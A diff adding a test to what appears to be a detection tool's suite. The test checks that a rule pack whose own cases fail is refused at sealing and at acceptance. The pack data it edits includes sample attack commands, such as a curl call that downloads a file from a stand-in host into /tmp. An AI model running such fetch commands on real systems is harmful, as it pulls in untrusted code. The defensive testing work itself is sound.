@@ -161,6 +161,37 @@ def what_is_not_ours_or_was_altered_is_not_kept(person):
 
 
 @case
+def a_pack_whose_own_cases_fail_is_neither_sealed_nor_accepted(person):
+    content = keyed(person).read_text()
+    cases = ((content.replace("- 'curl -s http://192.0.2.201/a -o /tmp/a'", "- 'curl -s http://192.0.2.77/a'"),
+              "does not fire for this case"),
+             (content.replace("- 'ping -c 1 drop.sample-pack.example'", "- 'curl http://192.0.2.201/b'"),
+              "fires for a case that is to be quiet"))
+    home = Person(person.folder)
+    home.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / "lender")}
+    for role in ("one", "two"):
+        officer = Person(person.folder)
+        officer.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / role)}
+        officer.run("access", "card", "--name", role, "--out", f"{role}.card")
+    home.run("access", "init", "--group", "A", "--officer", "security=one.card", "--officer", "legal=two.card",
+             "--out", "lender.card")
+    recipient = person.run("access", "recipient").out.strip()
+    for text, why in cases:
+        assert text != content
+        line = next(number for number, (new, old) in enumerate(zip(text.splitlines(), content.splitlines()), 1) if new != old)
+        # Whoever seals it for a group is told; sealed by hand, whoever is to accept it.
+        bare = person.file("bare.yaml", "".join(one for one in text.splitlines(True) if not one.startswith("key: ")))
+        said = one_line(home.run("access", "seal", bare, "--group", "lender.card", "--to", recipient, "--out", "x",
+                                 status=2).err)
+        assert why in said and f":{line}:" in said, said
+        sealed = seal(person, person.file("failing.yaml", text), f"{line}.age")
+        said = one_line(person.run("access", "accept", sealed, status=2).err)
+        assert why in said and f":{line}:" in said, said
+    assert not (person.home / "packs").exists() or not list((person.home / "packs").iterdir())
+    assert not (person.folder / "x").exists()
+
+
+@case
 def without_a_grant_it_is_refused_and_nothing_is_analysed(person):
     person.run("access", "accept", seal(person))
     person.file("drop.sh", DROP)
